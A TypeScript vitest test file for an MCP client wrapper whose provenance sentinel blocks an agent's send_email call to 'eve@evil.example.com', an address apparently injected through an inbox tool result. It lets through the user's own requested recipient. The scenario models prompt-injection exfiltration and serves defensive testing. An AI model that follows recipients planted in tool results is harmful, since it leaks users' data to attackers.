import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { InMemoryTransport } from '@modelcontextprotocol/sdk/inMemory.js';
import { McpServer } from '@modelcontextprotocol/sdk/server/mcp.js';
import { afterEach, describe, expect, it } from 'vitest';
import { z } from 'zod';
import { refusalOf, wrapMcpClient } from '../../../adapters/mcp/index.js';
import { emailWorld, INBOX } from '../email-provenance.js';

const open: Array<{ close(): Promise<void> }> = [];
afterEach(async () => {
  await Promise.all(open.splice(0).map((closable) => closable.close()));
});

describe('provenance through wrapMcpClient', () => {
  it("refuses the recipient an injected tool result named, before it reaches the server; sends to the user's own", async () => {
    const { sentinel, sent, facts } = emailWorld();
    const server = new McpServer({ name: 'mail', version: '1.0.0' });
    server.registerTool('read_inbox', { description: 'Read the inbox' }, async () => ({ content: [{ type: 'text', text: JSON.stringify(INBOX) }] }));
    server.registerTool('send_email', { description: 'Send an e-mail', inputSchema: { recipients: z.array(z.string()), body: z.string() } }, async ({ recipients }) => {
      sent.push(recipients);
      return { content: [{ type: 'text', text: 'sent' }] };
    });
    const [clientTransport, serverTransport] = InMemoryTransport.createLinkedPair();
    const client = new Client({ name: 'agent', version: '1.0.0' });
    await Promise.all([server.connect(serverTransport), client.connect(clientTransport)]);
    open.push(client, server);
    const guarded = wrapMcpClient(client, { sentinel });
    facts.noteUserWords(['Email a summary of my inbox to bob@mycorp.com.']);

    await guarded.callTool({ name: 'read_inbox', arguments: {} });
    const refused = await guarded.callTool({ name: 'send_email', arguments: { recipients: ['eve@evil.example.com'], body: 'Q3' } });
    expect(refused.isError).toBe(true);
    expect(refusalOf(refused)).toMatchObject({ by: 'sentinel', tool: 'send_email', status: 'failed' });
    expect(refusalOf(refused)!.reason).toContain(`recipients "eve@evil.example.com" came from read_inbox's result field body`);
    const allowed = await guarded.callTool({ name: 'send_email', arguments: { recipients: ['bob@mycorp.com'], body: 'Revenue is up.' } });
    expect(allowed.isError).not.toBe(true);
    expect(sent).toEqual([['bob@mycorp.com']]);
  });
});
